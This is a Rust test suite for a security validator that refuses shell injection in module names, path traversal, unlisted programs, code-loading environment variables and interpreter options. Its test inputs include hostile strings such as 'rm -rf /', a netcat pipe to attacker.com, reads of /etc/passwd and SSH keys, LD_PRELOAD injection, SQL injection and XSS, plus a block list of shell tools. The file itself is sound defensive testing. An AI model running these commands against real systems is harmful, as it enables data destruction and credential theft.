//! The security suite that every release passes, input for input.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::path::Path;

use tywrap_policy::escape::string_literal;
use tywrap_policy::{Code, DropReason, Policy, SecurityValidator, Severity};

fn validator(policy: &str) -> SecurityValidator {
    SecurityValidator::new(&Policy::parse(policy, Path::new("tywrap.toml")).unwrap().policy)
}

#[test]
fn shell_syntax_in_module_names_is_refused() {
    let validator = validator("");
    for name in [
        "math; rm -rf /",
        "numpy && cat /etc/passwd",
        "pandas | nc attacker.com 4444",
        "scipy `whoami`",
        "requests $(id)",
    ] {
        let error = validator.module_name(name).unwrap_err();
        assert_eq!((error.code, error.severity), (Code::ModuleMalformed, Severity::High), "{name}");
        assert_eq!(error.context["module"], name);
    }
    for name in ["math", "numpy", "pandas", "scipy", "requests"] {
        assert!(validator.module_name(name).is_ok(), "the same names without it are accepted");
    }
}

#[test]
fn paths_that_leave_their_root_are_refused() {
    let validator = validator("");
    let root = Path::new("/app/safe");
    for path in [
        "../../../../etc/passwd",
        "../../../home/user/.ssh/id_rsa",
        "..\\..\\..\\windows\\system32\\config\\sam",
        "/etc/shadow",
        "~/.bashrc",
    ] {
        assert_eq!(validator.path(root, path).unwrap_err().code, Code::PathRefused, "{path}");
    }
    let inside = validator.path(root, "/app/safe/data/x.json").unwrap();
    assert_eq!(inside.value.relative, Path::new("data/x.json"));
    assert!(inside.warnings.is_empty());
}

#[test]
fn programs_that_are_not_listed_are_refused() {
    let validator = validator("");
    for program in ["rm", "cat", "curl", "wget", "nc", "bash", "sh"] {
        assert_eq!(validator.command(program).unwrap_err().code, Code::CommandRefused, "{program}");
    }
    for program in ["python3", "python", "node"] {
        assert!(validator.command(program).is_ok(), "{program}");
    }
    for program in
        ["", "Python3", "python3 ", "python3; id", "./python3", "/usr/bin/python3", "python3\0", "\u{ff50}ython3"]
    {
        assert!(validator.command(program).is_err(), "{program:?}");
    }
}

#[test]
fn an_environment_keeps_what_is_allowed() {
    let environment = validator("").environment([
        ("PATH", "/usr/bin"),
        ("MALICIOUS_VAR", "x"),
        ("LD_PRELOAD", "/tmp/x.so"),
        ("PYTHONPATH", "/safe/path"),
    ]);
    let kept: Vec<_> = environment.kept.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    assert_eq!(kept, [("PATH", "/usr/bin"), ("PYTHONPATH", "/safe/path")]);
    let dropped: Vec<_> = environment.dropped.iter().map(|dropped| (dropped.name.as_str(), dropped.reason)).collect();
    assert_eq!(dropped, [("MALICIOUS_VAR", DropReason::NotAllowed), ("LD_PRELOAD", DropReason::LoadsCode)]);
}

#[test]
fn payloads_in_strings_are_inert_and_kept() {
    for payload in ["alert(\"xss\")", "${evil_code}", "`command_injection`", "'; DROP TABLE users; --"] {
        let literal = string_literal(payload);
        for syntax in ["${", "`", "'"] {
            assert!(!literal.contains(syntax), "{literal}");
        }
        assert_eq!(serde_json::from_str::<String>(&literal).unwrap(), payload);
    }
}

#[test]
fn no_list_allows_variables_that_load_code() {
    let names = [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "ld_preload",
        "DYLD_INSERT_LIBRARIES",
        "GLIBC_TUNABLES",
        "GCONV_PATH",
        "LOCPATH",
        "MALLOC_CONF",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "PYTHONINSPECT",
        "PYTHONBREAKPOINT",
        "PYTHONWARNINGS",
        "PYTHONPLATLIBDIR",
        "PYTHONPYCACHEPREFIX",
        "PYTHONEXECUTABLE",
        "NODE_OPTIONS",
        "NODE_PATH",
        "BASH_ENV",
        "ENV",
        "OPENSSL_CONF",
        "IFS",
        "PERL5OPT",
    ];
    let list: Vec<String> = names.iter().map(|name| format!("\"{name}\"")).collect();
    for cleaning in [true, false] {
        let validator = validator(&format!(
            "[subprocess]\nenvironment-cleaning = {cleaning}\nallowed-environment-vars = [{}, \"TERM\", \"NODE_ENV\"]\n",
            list.join(", ")
        ));
        let environment =
            validator.environment(names.iter().chain(&["TERM", "NODE_ENV", "OTHER"]).map(|name| (*name, "x")));
        assert!(
            environment.dropped.iter().filter(|dropped| dropped.reason == DropReason::LoadsCode).count() == names.len()
        );
        let expected: &[&str] = if cleaning { &["NODE_ENV", "TERM"] } else { &["NODE_ENV", "OTHER", "TERM"] };
        assert_eq!(environment.kept.keys().collect::<Vec<_>>(), expected);
    }
}

#[test]
fn variables_that_no_program_can_have_are_dropped() {
    let validator = validator(
        "[subprocess]\nallowed-environment-vars = [\"PATH\", \"TERM\", \"PYTHONPATH\", \"OMP_NUM_THREADS\"]\n",
    );
    let long = "y".repeat(200_000);
    for (name, value, reason) in [
        ("A=B", "x", DropReason::Name),
        ("", "x", DropReason::Name),
        ("1A", "x", DropReason::Name),
        ("A\0", "x", DropReason::Name),
        ("python\u{440}ath", "x", DropReason::Name),
        ("pythonpath", "/tmp", DropReason::NotAllowed),
        ("term", "x", DropReason::NotAllowed),
        ("TERM", "a\0b", DropReason::Control),
        ("TERM", "a\nLD_PRELOAD=/x", DropReason::Control),
        ("TERM", &long, DropReason::TooLong),
        ("PATH", "", DropReason::RelativeDirectory),
        ("PATH", "/usr/bin:", DropReason::RelativeDirectory),
        ("PATH", "/usr/bin:.", DropReason::RelativeDirectory),
        ("PYTHONPATH", "lib", DropReason::RelativeDirectory),
        ("OMP_NUM_THREADS", "100000", DropReason::Threads),
        ("OMP_NUM_THREADS", "-1", DropReason::Threads),
    ] {
        let environment = validator.environment([(name, value)]);
        assert!(environment.kept.is_empty());
        assert_eq!(environment.dropped[0].reason, reason, "{name:?}");
        assert!(validator.variable(name, value).is_err());
    }
    assert_eq!(validator.environment([("OMP_NUM_THREADS", "4")]).kept.len(), 1);
    assert!(validator.variable("TERM", "xterm").is_ok());
}

#[test]
fn a_worker_is_given_its_module_roots_by_the_host() {
    let environment =
        validator("").worker_environment([("PYTHONPATH", "/tmp"), ("PATH", "/tmp/evil"), ("LANG", "C.UTF-8")]);
    assert_eq!(environment.kept.keys().collect::<Vec<_>>(), ["LANG"]);
    assert!(environment.dropped.iter().all(|dropped| dropped.reason == DropReason::SetByHost));
}

#[test]
fn arguments_are_plain_text_and_no_options_of_the_interpreter() {
    let validator = validator("");
    for arguments in
        [&[][..], &["script.py"], &["script.py", "--verbose", "-c"], &["--version"], &["script.py", "äöü {} * ? #"]]
    {
        assert!(validator.arguments(arguments).is_ok(), "{arguments:?}");
    }
    let long = "x".repeat(1001);
    for arguments in [
        &["-c", "import os"][..],
        &["-X", "importtime"],
        &["-m", "http.server"],
        &["-"],
        &["--"],
        &["--require", "/tmp/x.js"],
        &["--experimental-permission=false"],
        &["x.py\0-c"],
        &["x.py\n-c"],
        &["x.py", "\u{1b}[2J"],
        &["x.py", "\u{202e}"],
        &["x.py", "a;b"],
        &["x.py", "$(id)"],
        &["x.py", "`id`"],
        &["x.py", "a|b"],
        &["x.py", "../x"],
        &["x.py", &long],
    ] {
        assert_eq!(validator.arguments(arguments).unwrap_err().code, Code::ArgumentRefused, "{arguments:?}");
    }
    let error = validator.arguments(&["x.py", "secret; id"]).unwrap_err();
    assert!(!error.to_string().contains("secret"), "an argument may be a secret: {error}");
}

#[test]
fn lenient_mode_passes_suspicious_text_with_a_warning_and_names_never() {
    let validator = validator("[input-validation]\nstrict-mode = false\n");
    assert_eq!(validator.arguments(&["x.py", "a|b"]).unwrap().warnings, ["|"]);
    assert_eq!(validator.path(Path::new("/r"), "a;b").unwrap().warnings, [";"]);
    assert!(validator.path(Path::new("/r"), "../a").is_err());
    assert!(validator.module_name("math; import os").is_err());
}

#[test]
fn files_lie_in_allowed_directories_and_have_allowed_extensions() {
    let validator =
        validator("[filesystem]\nallowed-directories = [\"generated\", \"/srv/data\", { temporary = \"tywrap\" }]\n");
    let file = |path: &str| {
        let checked = validator.file(Path::new("/app"), Path::new("/tmp"), path);
        checked.map(|checked| checked.value.display()).map_err(|error| error.code)
    };
    for (path, resolved) in [
        ("generated/x.json", "/app/generated/x.json"),
        ("generated//./a/x.d.ts", "/app/generated/a/x.d.ts"),
        ("/app/generated/x.ts", "/app/generated/x.ts"),
        ("/srv/data/x.txt", "/srv/data/x.txt"),
        ("/tmp/tywrap/x.py", "/tmp/tywrap/x.py"),
    ] {
        assert_eq!(file(path).as_deref(), Ok(resolved), "{path}");
    }
    for path in [
        "x.json",
        "generated",
        "generated/x.exe",
        "generated/x",
        "generated/.json",
        "generated/x.json/",
        "generated/x.json\0.exe",
        "generated/../x.json",
        "generated-evil/x.json",
        "/srv/data-evil/x.json",
        "/tmp/x.json",
        "/etc/x.json",
        "~/generated/x.json",
    ] {
        assert_eq!(file(path), Err(Code::PathRefused), "{path}");
    }
    let relative = validator.file(Path::new("app"), Path::new("tmp"), "generated/x.json");
    assert!(relative.is_err(), "without absolute directories nothing lies in them");
}
